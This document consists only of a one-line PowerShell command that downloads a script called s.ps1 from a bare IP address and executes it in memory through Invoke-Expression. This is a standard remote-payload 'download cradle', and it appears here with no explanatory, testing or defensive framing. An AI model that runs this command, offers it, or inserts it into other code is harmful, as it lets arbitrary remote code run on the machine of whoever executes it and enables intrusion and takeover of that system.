IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/s.ps1')
